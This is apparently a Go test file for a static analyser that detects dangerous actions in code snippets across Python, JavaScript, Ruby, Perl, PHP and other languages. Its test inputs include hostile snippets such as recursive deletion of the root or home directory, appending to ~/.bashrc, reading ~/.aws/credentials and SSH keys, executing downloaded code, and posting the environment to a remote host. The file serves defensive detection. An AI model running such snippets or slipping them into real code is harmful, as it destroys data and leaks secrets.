@@ -1,0 +1,130 @@
+package code
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+)
+
+// shown writes what was found, one act a word: "removes /a" and so on.
+func shown(t *Text) string {
+	names := [...]string{"", "argv", "shell", "removes", "tree", "writes", "reads", "queries", "download", "evaluates", "tells"}
+	all := []string{}
+	for _, a := range t.Acts {
+		words := []string{}
+		for _, w := range a.Words {
+			text := strings.ReplaceAll(w.Text, "\x00", "?")
+			if w.Glob {
+				text += "(glob)"
+			}
+			words = append(words, text)
+		}
+		all = append(all, strings.TrimSpace(fmt.Sprint(names[a.Verb], " ", strings.Join(words, " | "))))
+	}
+	return strings.Join(all, "; ")
+}
+
+func TestRead(t *testing.T) {
+	for _, tt := range []struct {
+		lang       Lang
+		text, want string
+	}{
+		{Python, `import os; os.system("a b")`, "shell a b"},
+		{Python, `print("rm -rf x")`, ""},
+		{Python, `"""os.system('rm -rf /')"""` + "\nx = 'os.remove(1)'", ""},
+		{Python, `# os.system("a")` + "\n", ""},
+		{Python, `import subprocess as s; s.run(["git", "push", x])`, "argv git | push | ?"},
+		{Python, `from os import system as s` + "\n" + `s('a')`, "shell a"},
+		{Python, `from os import (remove, system as s)` + "\n" + `remove('a')`, "removes a"},
+		{Python, `from os import *` + "\n" + `remove('a')`, "removes a"},
+		{Python, `import os;os.execlp('git','git','push')`, "argv git | push"},
+		{Python, `import os;os.execvp('git',['git','push'])`, "argv git | push"},
+		{Python, `import os;os.spawnlp(0,'git','git','push')`, "argv git | push"},
+		{Python, `import sh;sh.git('push')`, "argv git | push"},
+		{Python, `from sh import git; git.push("x")`, ""},
+		{Python, `from sh import git; git("push")`, "argv git | push"},
+		{Python, `import pathlib;[p.unlink() for p in pathlib.Path('/').rglob('*')]`, "tree /"},
+		{Python, `from pathlib import Path;print((Path.home()/'.aws'/'credentials').read_text())`, "reads ~/.aws/credentials"},
+		{Python, `open(os.path.join(os.environ['HOME'], '.bashrc'), 'a').write("x")`, "writes ~/.bashrc"},
+		{Python, `open(os.path.expanduser("~/.bashrc"), mode="w")`, "writes ~/.bashrc"},
+		{Python, `with open('a' 'b', "w") as f: f.write("x")`, "writes ab"},
+		{Python, `p = "/etc/hosts"` + "\n" + `os.remove(p)`, "removes /etc/hosts"},
+		{Python, `os.remove(f"/tmp/{x}")`, "removes /tmp/?"},
+		{Python, `subprocess.run(f"git push {x.y}", shell=True)`, "shell git push ${x}"},
+		{Python, `subprocess.run("git push origin".split())`, "argv git | push | origin"},
+		{Python, `shutil.rmtree("/a"); shutil.copy("a", "b"); os.rename("c", "d")`, "tree /a; reads a; writes b; removes c; writes d"},
+		{Python, `for f in ["a", "b"]:` + "\n    os.remove(f)", "removes a | b"},
+		{Python, `for f in glob.glob("/x/*"):` + "\n    os.remove(f)", "removes /x/*(glob)"},
+		{Python, `for r, d, f in os.walk("/"):` + "\n    os.remove(os.path.join(r, f))", "tree /*(glob)"},
+		{Python, `cur.execute("DELETE FROM t")`, "queries DELETE FROM t"},
+		{Python, `exec(urllib.request.urlopen("http://x").read())`, "download"},
+		{Python, `r = requests.get("http://x")` + "\n" + `exec(r.text)`, "download"},
+		{Python, `exec("import os; os.system('a')")`, "shell a"},
+		{Python, `requests.post("http://x", data=dict(os.environ))`, "tells"},
+		{Python, `subprocess.run(["a"], env={**os.environ, "X": "1"})`, "argv a"},
+		{Python, `os.environ["HOME"]; os.environ.get("X")`, ""},
+		{Python, `print(os.environ)`, "tells"},
+		{Python, `Path("a").write_text("x"); Path("a").rename("b"); Path("c").unlink()`, "writes a; removes a; writes b; removes c"},
+		{Python, `os.open("a", os.O_WRONLY | os.O_CREAT)`, "writes a"},
+		{Python, `os.chmod("/etc/x", 0o644); os.makedirs("/a/b")`, "writes /etc/x; writes /a/b"},
+		{Python, `__import__("os").system("a")`, "shell a"},
+		{Python, `"x".replace("a", "b"); l.remove("x"); d.copy(); re.compile("a")`, ""},
+		{JavaScript, `require("child_process").execSync("a b")`, "shell a b"},
+		{JavaScript, `const {exec:e}=require('child_process');e('git push')`, "shell git push"},
+		{JavaScript, `import {spawn as s} from "node:child_process"; s("git", ["push"])`, "argv git | push"},
+		{JavaScript, `import * as cp from 'child_process'; cp.execFile("git", ["push"], {cwd: "/"})`, "argv git | push"},
+		{JavaScript, `cp.spawn("git push", {shell: true})`, "shell git push"},
+		{JavaScript, "import {$} from \"bun\"; await $`rm -rf ~`", "shell rm -rf ~"},
+		{JavaScript, "Bun.$`rm ${x}`", "shell rm ${x}"},
+		{JavaScript, `new Deno.Command("git", { args: ["push"] }).output()`, "argv git | push"},
+		{JavaScript, `fs.rmSync("/a", {recursive: true}); fs.unlinkSync("b"); fs.rmSync("c")`, "tree /a; removes b; removes c"},
+		{JavaScript, `const p=require('path');console.log(require('fs').readFileSync(p.join(require('os').homedir(),'.aws')))`, "reads ~/.aws"},
+		{JavaScript, `require('fs').appendFileSync(require('os').homedir()+'/.bashrc','x')`, "writes ~/.bashrc"},
+		{JavaScript, `require('rimraf').sync('/')`, "tree /"},
+		{JavaScript, `x.split(/['"]/); exec("a")`, "shell a"},
+		{JavaScript, `// exec("a")` + "\n/* exec('b') */", ""},
+		{JavaScript, `fetch("http://x").then(r => r.text()).then(eval)`, "download"},
+		{JavaScript, `fetch("http://x", {body: JSON.stringify(process.env)})`, "tells"},
+		{JavaScript, `fs.readdirSync("/").forEach(f => fs.rmSync("/" + f, {recursive: true}))`, "tree /*(glob)"},
+		{Ruby, `%x(rm a)`, "shell rm a"},
+		{Ruby, `%x|rm a|; %x{a}; %x[b]`, "shell rm a; shell a; shell b"},
+		{Ruby, "`a b`; Kernel.system(%q(c d)); exec \"e\"", "shell a b; shell c d; shell e"},
+		{Ruby, `system("git", "push"); IO.popen(["a", "b"]); Open3.capture2("c")`, "argv git | push; argv a | b; shell c"},
+		{Ruby, `open("|rm a"); File.open("x", "w"); File.write("y", 1)`, "shell rm a; writes x; writes y"},
+		{Ruby, `FileUtils.rm_rf("~"); File.delete "a", "b"; FileUtils.rm %w[c d]`, "tree ~; removes a; removes b; removes c | d"},
+		{Ruby, "puts <<~E\nsystem('x')\nE\nsystem('y')", "shell y"},
+		{Ruby, `puts "#{` + "`a`" + `}"`, "shell a"},
+		{Ruby, `File.read(File.join(Dir.home, ".ssh", "id"))`, "reads ~/.ssh/id"},
+		{Ruby, `puts ENV.to_h`, "tells"},
+		{Ruby, `Dir.glob("*.o").each { |f| File.delete(f) }`, "removes *.o(glob)"},
+		{Perl, `system(q(git reset)); exec q{a}; qx(b); qx!c!; system qq|d|;`, "shell git reset; shell a; shell b; shell c; shell d"},
+		{Perl, `open(F,"|-","a b"); open(F,"c|"); open F,q(-|),q(d); open(my $f, ">", "e"); open(G, ">>f")`, "shell a b; shell c; shell d; writes e; writes f"},
+		{Perl, `unlink glob "/*"`, "removes /*(glob)"},
+		{Perl, `unlink "$ENV{HOME}/.bashrc"; rmtree("/a")`, "removes ~/.bashrc; tree /a"},
+		{Perl, `$x =~ s/system("a")/b/; tr/a/b/; print "system('c')"`, ""},
+		{Perl, `system qw(git push)`, "argv git | push"},
+		{PHP, `popen("a","r"); proc_open("b",[],$p); shell_exec('c'); ` + "`d`;", "shell a; shell b; shell c; shell d"},
+		{PHP, `array_map("unlink",glob("/*"));`, "removes /*(glob)"},
+		{PHP, `file_put_contents($_SERVER['HOME'] . "/.bashrc", "x");`, "writes ~/.bashrc"},
+		{PHP, "<html><?php system('a'); ?>", "shell a"},
+		{Lua, `os.execute[[a b]]; io.popen("c"); -- os.execute("d")` + "\nos.remove('e')", "shell a b; shell c; removes e"},
+		{R, `system2("sh",c("-c",shQuote("a b"))); unlink("~",recursive=TRUE); unlink("b")`, "argv sh | -c | a b; tree ~; removes b"},
+		{R, `cat("x", file="~/.bashrc"); writeLines("x", "y"); x <- readLines("z")`, "writes ~/.bashrc; writes y; reads z"},
+		{Go, "package main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"sh\",\"-c\",\"a\").Run(); os.RemoveAll(`/b`) }", "argv sh | -c | a; tree /b"},
+		{Rust, `fn main(){ std::process::Command::new("sh").args(["-c", "a"]).arg(r"b").status().unwrap(); }`, "argv sh | -c | a | b"},
+		{C, `int main(){system("a b");}`, "shell a b"},
+		{JVM, `"rm x".execute(); ["a", "b"].execute(); sys.process.Process("c").!`, "shell rm x; argv a | b; shell c"},
+		{Elixir, `:os.cmd(~c"a b"); System.cmd("sh",["-c","c"])`, "shell a b; argv sh | -c | c"},
+		{Lisp, `(progn (shell-command "a") (delete-file "b") (call-process "c" nil 0 nil "d")) ; (system "x")`, "shell a; removes b; argv c | d"},
+		{Lisp, `(clojure.java.shell/sh "sh" "-c" "a")`, "argv sh | -c | a"},
+		{ML, `Sys.command "a b";; callProcess "c" ["d"]`, "shell a b; argv c | d"},
+		{AppleScript, `do shell script "a b"`, "shell a b"},
+		{CMake, `execute_process(COMMAND sh -c "a b" WORKING_DIRECTORY x)` + "\nfile(REMOVE_RECURSE /a)", "argv sh | -c | a b; tree /a"},
+		{Awk, `BEGIN { cmd="a b"; system(cmd) } /x"/ { print $1 | "c"; "d" | getline x } # system("e")`, "shell a b; shell c; shell d"},
+		{Lines, "!a b\n1,$!sort\nr !c\nshell d", "shell a b; shell sort; shell c; shell d"},
+	} {
+		if got := shown(Read(tt.lang, tt.text)); got != tt.want {
+			t.Errorf("%x %s:\n got %q\nwant %q", tt.lang, tt.text, got, tt.want)
+		}
+	}
+}
